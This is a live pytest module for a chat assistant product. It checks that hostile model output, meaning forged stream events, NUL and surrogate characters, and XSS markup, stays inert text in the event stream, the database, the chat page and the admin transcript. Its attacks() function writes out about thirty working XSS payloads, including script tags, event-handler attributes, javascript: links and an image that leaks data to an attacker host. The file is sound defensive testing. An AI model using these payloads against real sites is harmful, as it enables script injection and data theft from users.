"""Hostile model output, end to end: the fake upstream writes it, daphne streams and stores it,
the chat page and the admin transcript show it. It stays text everywhere and cannot forge
events on the stream.

What the model may write and how it is treated (docs/protocol.md, "Event stream"): every
character goes through as it came, CR and CRLF included (JSON-escaped on the wire, never a
raw line break), except NUL and lone surrogates, which become U+FFFD before the answer is
published or stored: PostgreSQL cannot store NUL, and a lone surrogate has no UTF-8 form.
The renderers' own treatment of hostile Markdown is tested in tests/test_rendering.py and
tests/browser/test_markdown.py; this module takes their corpus through the whole product.
"""

from __future__ import annotations

import json
import re

import httpx
import pytest

from assistant.models import Conversation, Message
from assistant.providers.values import model_text
from tests.helpers.browser import EVENT_LOG, send, wait_status
from tests.helpers.chat import create_conversation, stream_answer, wait_for_final
from tests.helpers.live import session_client, wait_until
from tests.helpers.markup import HOSTILE, assert_inert
from tests.helpers.servers import RecordingServer
from tests.helpers.sse import SSEEvent, parse_sse

pytestmark = pytest.mark.live

# Text shaped like the stream's own fields, with every kind of line break.
SSE_SHAPED = {
    "sse_event_lf": '\n\nevent: error\ndata: {"message": 1, "code": 500}\n\n',
    "sse_id_retry": "id: conversation-00000000-0000-0000-0000-000000000000:999999999999999\nretry: 1\n\n",
    "sse_cr_only": "a\revent: done\rdata: {}\r\rb",
    "sse_crlf": "a\r\nevent: done\r\ndata: {}\r\n\r\nb",
    "sse_comment_and_bare_fields": ": comment\n\n:\ndata:\ndata:{}\nevent\nid\n\n",
    "sse_json_breakout": '"}\n\nevent: done\ndata: {"message": 1, "finish_reason": "stop"}\n\n{"',
    "sse_escapes_as_text": '\\n\\r\\u0000 \\" \\\\',
    "nul": "a\0b \0\n\0event: done\ndata: {}\n\n",
    "lone_surrogates": "a\ud800b \udfff c \ud83d",
    "unicode_line_breaks": "eins\u2028zwei\u2029drei\u0085vier\x0bfünf\x0csechs",
}
OUTPUT = {**HOSTILE, **SSE_SHAPED}

EVENT_TYPES = "stream-open|keep-alive|start|delta|done|error|title|stream-reset"
WIRE_LINE = re.compile(
    rf"|retry: 2000|event: (?:{EVENT_TYPES})|id: conversation-[0-9a-f-]{{36}}:\d+|data:|data: \{{.*\}}"
)


def fake_ascii(**behaviour) -> str:
    """A question for the fake upstream, its instructions JSON-escaped: control characters
    and lone surrogates stay printable escapes in the question."""
    return "Frage FAKE" + json.dumps(behaviour)


def raw_answer(client: httpx.Client, conversation: dict, sent: dict) -> tuple[bytes, list[SSEEvent]]:
    """The stream's bytes from the answer's position up to its end, and its events."""
    raw = bytearray()
    events = stream_answer(client, conversation, sent, raw)
    return bytes(raw), events


def assert_wire_is_clean(raw: bytes) -> None:
    """Only the server's own fields, each event's data one JSON line, no raw CR or NUL."""
    assert b"\r" not in raw
    assert b"\x00" not in raw
    lines = raw.decode("utf-8").split("\n")
    strange = [line for line in lines if not WIRE_LINE.fullmatch(line)]
    assert not strange, strange
    assert sum(line.startswith("retry:") for line in lines) == 1  # stream-open's own
    for line in lines:
        if line.startswith("data: "):
            assert isinstance(json.loads(line[6:]), dict)


@pytest.mark.parametrize("text", OUTPUT.values(), ids=OUTPUT.keys())
def test_hostile_output_is_exact_text_on_the_wire_in_the_database_and_the_api(alice_http, upstream, text):
    conversation = create_conversation(alice_http, title="named")  # no title request follows
    sent = alice_http.post(conversation["messages_url"], json={"content": fake_ascii(text=text, tps=400)})
    assert sent.status_code == 202, sent.text

    raw, answer = raw_answer(alice_http, conversation, sent.json())

    assert_wire_is_clean(raw)
    every = [e.event for e in parse_sse(raw.decode("utf-8").split("\n")) if e.event != "keep-alive"]
    assert every == ["stream-open", "start", *["delta"] * (len(every) - 3), "done"]
    assert [e.event for e in answer] == every[1:]
    expected = model_text(text)
    assert "".join(e.json()["text"] for e in answer if e.event == "delta") == expected
    assert answer[-1].json()["finish_reason"] == "stop"
    message = wait_for_final(sent.json()["assistant_message"]["id"])
    assert (message.status, message.content) == ("done", expected)
    detail = alice_http.get(conversation["detail_url"]).json()
    assert detail["messages"][-1]["content"] == expected


def test_hostile_output_from_an_escaping_upstream_is_the_same_text(alice_http, upstream):
    """An upstream that escapes everything (`\\u003c`, `\\u0000`) gives the same result."""
    text = "\n".join(SSE_SHAPED.values()) + HOSTILE["script"]
    conversation = create_conversation(alice_http, title="named")
    sent = alice_http.post(
        conversation["messages_url"], json={"content": fake_ascii(text=text, ascii_json=True)}
    ).json()
    raw, answer = raw_answer(alice_http, conversation, sent)
    assert_wire_is_clean(raw)
    assert "".join(e.json()["text"] for e in answer if e.event == "delta") == model_text(text)
    assert Message.objects.get(pk=sent["assistant_message"]["id"]).content == model_text(text)


# --- in the browser ------------------------------------------------------------------------------


def attacks(attacker: str) -> list[str]:
    """Markup that, rendered as HTML, would run code (setting `window.pwned`) or load
    something from the attacker's server."""
    pwn = "window.pwned = 1"
    return [
        f"<script>{pwn}</script>",
        f'<script src="{attacker}/script.js"></script>',
        f'<img src="{attacker}/img.png" onerror="{pwn}">',
        f'<svg onload="{pwn}"><image href="{attacker}/svg-image.png"/></svg>',
        f'<iframe src="{attacker}/iframe" onload="{pwn}"></iframe>',
        '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
        f'<object data="{attacker}/object"></object><embed src="{attacker}/embed">',
        f'<link rel="stylesheet" href="{attacker}/style.css">',
        f'<meta http-equiv="refresh" content="0; url={attacker}/refresh">',
        f"<style>@import '{attacker}/import.css'; body {{ background: url({attacker}/bg.png) }}</style>",
        f'<p style="background: url({attacker}/style-attribute.png)">styled</p>',
        f'<details open ontoggle="{pwn}"><summary>s</summary></details>',
        f'<input autofocus onfocus="{pwn}">',
        f'<video><source onerror="{pwn}"></video>',
        f'<form action="{attacker}/form"><button formaction="{attacker}/button">go</button></form>',
        f"<math><mtext><table><mglyph><style><img src=x onerror='{pwn}'>",
        f"<noscript><p title=\"</noscript><img src=x onerror='{pwn}'>\">",
        f"[javascript](javascript:{pwn})",
        f"[mixed case](JaVaScRiPt:{pwn})",
        f"[entity tab](java&#x09;script:{pwn})",
        f"[entity letters](&#106;&#97;vascript:{pwn})",
        f"[leading space]( javascript:{pwn})",
        "[vbscript](vbscript:msgbox(1))",
        "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)",
        f"![leak]({attacker}/markdown-image.png?d=secret)",
        f"![reference][img]\n\n[img]: {attacker}/reference-image.png",
        f"[![nested]({attacker}/nested-image.png)](javascript:{pwn})",
        f'<a href="{attacker}/a" onmouseover="{pwn}">hover</a>',
        f"<{attacker}/autolink>",
    ]


PAGE_WATCH = """
(() => {
  window.__violations = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    window.__violations.push(event.violatedDirective + " " + event.blockedURI);
  });
})();
"""

FORBIDDEN = (
    "script, img, svg, iframe, object, embed, style, link, meta, form, input, button, math, video, base"
)

INSPECT = """
([selector, forbidden]) => {
  const roots = [...document.querySelectorAll(selector)];
  const all = roots.flatMap((root) => [...root.querySelectorAll("*")]);
  return {
    roots: roots.length,
    text: roots.map((root) => root.textContent).join("\\n"),
    forbidden: roots.flatMap((root) => [...root.querySelectorAll(forbidden)].map((el) => el.tagName)),
    handlers: all.flatMap((el) => [...el.attributes].map((a) => a.name).filter((n) => n.startsWith("on"))),
    styles: all.filter((el) => el.hasAttribute("style")).length,
    hrefs: [...new Set(
      all.filter((el) => el.hasAttribute("href") && el.closest(".text, .transcript-text"))
        .map((el) => el.getAttribute("href"))
    )],
    pwned: window.pwned ?? null,
    violations: window.__violations,
  };
}
"""


def assert_shown_inert(page, selector: str, attacker: RecordingServer, requests: list[str]) -> dict:
    """The elements matching `selector` hold text and allowed markup only, links in message text
    go to http(s) or mailto only; nothing ran, loaded or needed the Content-Security-Policy."""
    page.wait_for_timeout(300)  # time for an image to fail, a frame to load, a handler to fire
    seen = page.evaluate(INSPECT, [selector, FORBIDDEN])
    assert seen["roots"] > 0
    assert seen["forbidden"] == []
    assert seen["handlers"] == []
    assert seen["styles"] == 0
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in seen["hrefs"]), seen["hrefs"]
    assert seen["pwned"] is None
    # The sanitizers stopped everything: the Content-Security-Policy never had to.
    assert seen["violations"] == []
    assert [url for url in requests if attacker.netloc in url] == []
    assert attacker.requests == []
    return seen


def hostile_title(attacker: RecordingServer) -> str:
    """A first answer short enough for the title request to quote whole: the model's title."""
    return f'<img src="{attacker.url}/t" onerror=pwned=1> [t](javascript:pwned=1)'


# Where model text shows in the chat page: messages, the conversation list, the heading.
SHOWN_IN_CHAT = "#messages .message .text, #conversation-list, #conversation-title"


def watched_page(pages, user, requests: list[str], init_script: str = PAGE_WATCH):
    """A logged-in page recording its requests and policy violations from the first byte."""
    opened = pages.open(user, path=None)
    opened.page.add_init_script(init_script)
    opened.page.on("request", lambda request: requests.append(request.url))
    return opened


@pytest.mark.browser
def test_hostile_output_is_inert_in_the_chat_page_live_and_reloaded(pages, alice, upstream, attacker):
    answer_text = "\n\n".join(attacks(attacker.url)) + "\n\n" + "\n\n".join(SSE_SHAPED.values())
    requests: list[str] = []
    opened = watched_page(pages, alice, requests, PAGE_WATCH + EVENT_LOG)
    page = opened.page
    page.goto(pages.live.url + "/")

    send(page, fake_ascii(text=hostile_title(attacker)))
    wait_status(page, "done")
    page.wait_for_function("() => window.__events.some((event) => event.type === 'title')")
    send(page, fake_ascii(text=answer_text, tps=300))
    page.locator("#messages .message.assistant").nth(1).wait_for()
    answer = wait_status(page, "done")

    live_view = assert_shown_inert(page, SHOWN_IN_CHAT, attacker, requests)
    assert "<script>window.pwned = 1</script>" in live_view["text"]  # shown, as text
    stored = Message.objects.get(pk=int(answer.get_attribute("data-message-id")))
    assert stored.content == model_text(answer_text)
    assert stored.conversation.title == hostile_title(attacker)
    page.reload()
    page.locator(f'[data-message-id="{stored.pk}"][data-status="done"]').wait_for()
    reloaded = assert_shown_inert(page, SHOWN_IN_CHAT + ", title", attacker, requests)
    assert "<script>window.pwned = 1</script>" in reloaded["text"]
    assert stored.conversation.title in reloaded["text"]
    assert opened.dialogs == []


@pytest.mark.browser
def test_hostile_output_is_inert_in_the_admin_transcript(pages, alice, upstream, attacker, django_user_model):
    with session_client(pages.live, alice) as client:
        conversation = create_conversation(client)
        for text in (hostile_title(attacker), "\n\n".join(attacks(attacker.url))):
            sent = client.post(conversation["messages_url"], json={"content": fake_ascii(text=text)}).json()
            wait_for_final(sent["assistant_message"]["id"])
    title = hostile_title(attacker)
    assert wait_until(lambda: Conversation.objects.get(pk=conversation["id"]).title == title)
    django_user_model.objects.create_superuser("root", password="root-password-1")

    requests: list[str] = []
    page = watched_page(pages, django_user_model.objects.get(username="root"), requests).page
    # Titles show in the list's content view, for a stated reason.
    page.goto(f"{pages.live.url}/admin/assistant/conversation/?content_view=1")
    page.select_option("select[name=purpose]", index=2)
    page.fill("textarea[name=details]", "Security review of hostile model output")
    page.click("input[type=submit]")
    page.locator("#result_list .field-conversation_title").first.wait_for()
    listed = assert_shown_inert(page, "#result_list .field-conversation_title", attacker, requests)
    assert title in listed["text"]
    page.goto(f"{pages.live.url}/admin/assistant/conversation/{conversation['id']}/change/")
    page.select_option("select[name=purpose]", index=1)
    page.fill("textarea[name=details]", "Security review of hostile model output")
    page.click("input[type=submit]")
    page.locator(".transcript-text").first.wait_for()
    shown = ".transcript-text, .breadcrumbs, #content-main table"
    seen = assert_shown_inert(page, shown, attacker, requests)
    assert "<script>window.pwned = 1</script>" in seen["text"]
    assert title in seen["text"]
    html = page.evaluate(
        "() => [...document.querySelectorAll('.transcript-text')].map((cell) => cell.innerHTML).join('')"
    )
    assert_inert(html)
